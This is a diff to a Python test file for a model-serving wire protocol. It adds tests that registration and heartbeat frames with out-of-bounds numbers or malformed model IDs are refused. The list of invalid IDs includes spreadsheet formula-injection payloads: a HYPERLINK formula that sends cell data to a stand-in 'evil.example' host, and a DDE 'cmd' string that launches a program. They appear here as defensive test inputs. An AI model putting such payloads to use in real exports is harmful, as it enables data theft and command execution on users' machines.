@@ -6,6 +6,7 @@ import json
 
 import pytest
 
+from darkbloom.wire.catalog import MAX_MODEL_ID
 from darkbloom.wire.chunk_arrays import response_chunks
 from darkbloom.wire.protocol import (
     MAX_REQUEST_FRAME_BYTES,
@@ -27,6 +28,7 @@ from darkbloom.wire.protocol import (
     Registered,
     TrustStatus,
     dump,
+    model_id_problem,
     parse_coordinator_frame,
     parse_provider_frame,
 )
@@ -175,6 +177,76 @@ def test_known_type_with_bad_fields_is_malformed(data: dict) -> None:
         parse_provider_frame(json.dumps(data))
     assert caught.value.code == "malformed_frame"
     assert caught.value.message
+
+
+MODEL = {"id": "smollm2-135m"}
+
+
+@pytest.mark.parametrize("fields, where", [
+    ({"models": [{**MODEL, "size_bytes": 10 ** 400}]}, "models.0.size_bytes"),
+    ({"models": [{**MODEL, "size_bytes": 2 ** 50 + 1}]}, "models.0.size_bytes"),
+    ({"models": [MODEL, {"id": "other", "size_bytes": -1}]}, "models.1.size_bytes"),
+    ({"models": [{**MODEL, "context_length": 2 ** 24 + 1}]}, "models.0.context_length"),
+    ({"models": [{**MODEL, "context_length": -1}]}, "models.0.context_length"),
+    ({"decode_tps": float("inf")}, "decode_tps"),
+    ({"decode_tps": float("nan")}, "decode_tps"),
+    ({"decode_tps": 1e7}, "decode_tps"),
+    ({"decode_tps": -1.0}, "decode_tps"),
+    ({"max_concurrency": 1025}, "max_concurrency"),
+    ({"max_request_frame_bytes": 2 ** 41}, "max_request_frame_bytes"),
+    ({"hardware": {"cpu_count": 2 ** 17}}, "hardware.cpu_count"),
+    ({"hardware": {"memory_gb": float("nan")}}, "hardware.memory_gb"),
+    ({"hardware": {"memory_gb": 2.0 ** 31}}, "hardware.memory_gb"),
+    ({"hardware": {"memory_gb": -1}}, "hardware.memory_gb"),
+])
+def test_a_registration_reporting_a_number_out_of_bounds_is_refused_naming_it(fields: dict, where: str) -> None:
+    with pytest.raises(FrameError) as caught:
+        parse_provider_frame(json.dumps({**REGISTER, **fields}))
+    assert caught.value.code == "malformed_frame" and caught.value.frame_type == "register"
+    assert caught.value.message.startswith(f"invalid frame: register.{where}: ")
+
+
+def test_a_number_json_can_only_write_as_infinity_is_refused() -> None:
+    raw = json.dumps(REGISTER).replace('"decode_tps": 42.5', '"decode_tps": 1e400')
+    with pytest.raises(FrameError) as caught:
+        parse_provider_frame(raw)
+    assert caught.value.message == "invalid frame: register.decode_tps: Input should be a finite number"
+
+
+def test_the_bounds_admit_what_a_real_node_reports() -> None:
+    frame = parse_provider_frame(json.dumps({
+        **REGISTER, "models": [{**MODEL, "size_bytes": 2 ** 50, "context_length": 2 ** 24}], "decode_tps": 1e6,
+        "max_concurrency": 1024, "hardware": {"cpu_count": 512, "memory_gb": 2048.0, "gpu": "H100"}}))
+    assert isinstance(frame, Register) and frame.models[0].size_bytes == 2 ** 50
+
+
+@pytest.mark.parametrize("active", [-1, 2 ** 20 + 1, 10 ** 400])
+def test_a_heartbeat_out_of_bounds_is_malformed(active: int) -> None:
+    with pytest.raises(FrameError) as caught:
+        parse_provider_frame(json.dumps({"type": "heartbeat", "active_requests": active}))
+    assert caught.value.code == "malformed_frame" and caught.value.frame_type == "heartbeat"
+    assert "heartbeat.active_requests" in caught.value.message
+
+
+VALID_IDS = ["smollm2-135m", "owner/name", "qwen2.5:0.5b", "Qwen/Qwen2.5-0.5B-Instruct-GGUF", "llama3.2:1b",
+             "a", "M_1", "m" * MAX_MODEL_ID]
+INVALID_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"refund")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+               "", " smollm2", "smollm2-135m ", "two words", "tab\tid", "line\nbreak", "naïve", "a,b", "a;b",
+               "-leading-dash", ".hidden", "/absolute", ":tag", "_under", "m" * (MAX_MODEL_ID + 1)]
+
+
+@pytest.mark.parametrize("model_id", VALID_IDS)
+def test_a_model_id_of_the_advertised_set_registers(model_id: str) -> None:
+    frame = parse_provider_frame(json.dumps({**REGISTER, "models": [{"id": model_id}]}))
+    assert frame.models[0].id == model_id and model_id_problem(model_id) is None
+
+
+@pytest.mark.parametrize("model_id", INVALID_IDS)
+def test_a_model_id_outside_the_advertised_set_is_refused_naming_it(model_id: str) -> None:
+    with pytest.raises(FrameError) as caught:
+        parse_provider_frame(json.dumps({**REGISTER, "models": [MODEL, {"id": model_id}]}))
+    assert caught.value.message.startswith("invalid frame: register.models.1.id: ")
+    assert model_id_problem(model_id) is not None
 
 
 def test_coordinator_frame_with_bad_fields_is_malformed() -> None:
